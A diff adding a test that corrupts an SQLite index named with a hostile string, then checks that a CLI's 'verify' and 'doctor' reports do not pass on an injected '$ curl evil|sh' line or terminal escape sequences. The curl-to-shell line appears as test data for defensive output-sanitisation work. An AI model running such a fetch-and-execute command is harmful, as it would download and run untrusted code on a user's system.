@@ -1,7 +1,7 @@
 /** File names, markers and processes of others reach a terminal, a log and a shell as text and as nothing else. */
 import assert from 'node:assert/strict';
 import { spawn, spawnSync } from 'node:child_process';
-import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, describe, test } from 'node:test';
@@ -189,4 +189,29 @@ describe('the command line', { skip: posix }, () => {
     assert.doesNotMatch(stderr, active);
     for (const { msg } of lines) assert.doesNotMatch(msg, active);
   });
+});
+
+test('the names of a hostile schema write no line of their own into what a check found', () => {
+  const file = join(folder, 'hostile.db');
+  const db = new Native(file);
+  db.exec(`CREATE TABLE t (a); CREATE INDEX "${evil.replaceAll('"', '""')}" ON t (a); INSERT INTO t VALUES (1), (2)`);
+  db.unsafeMode(true);
+  // The index loses its entries: its root page becomes one without cells.
+  const root = db.prepare("SELECT rootpage FROM sqlite_schema WHERE type = 'index'").pluck().get() as number;
+  db.close();
+  const bytes = readFileSync(file);
+  bytes.fill(0, (root - 1) * 4096 + 3, (root - 1) * 4096 + 5);
+  writeFileSync(file, bytes);
+  const raw = new Native(file);
+  const rows = raw.pragma('integrity_check') as readonly { integrity_check: string }[];
+  raw.close();
+  // The hazard.
+  assert.ok(rows.some(row => row.integrity_check.split('\n').includes('  $ curl evil|sh')));
+  for (const command of ['verify', 'doctor']) {
+    const { stdout, stderr } = spawnSync(process.execPath, [cli, command, file, '--full'], { encoding: 'utf8' });
+    const said = `${stdout}${stderr}`;
+    assert.match(said, /wrong # of entries in index/);
+    assert.doesNotMatch(said, active);
+    assert.doesNotMatch(said, /^\s*\$ curl/m, said);
+  }
 });
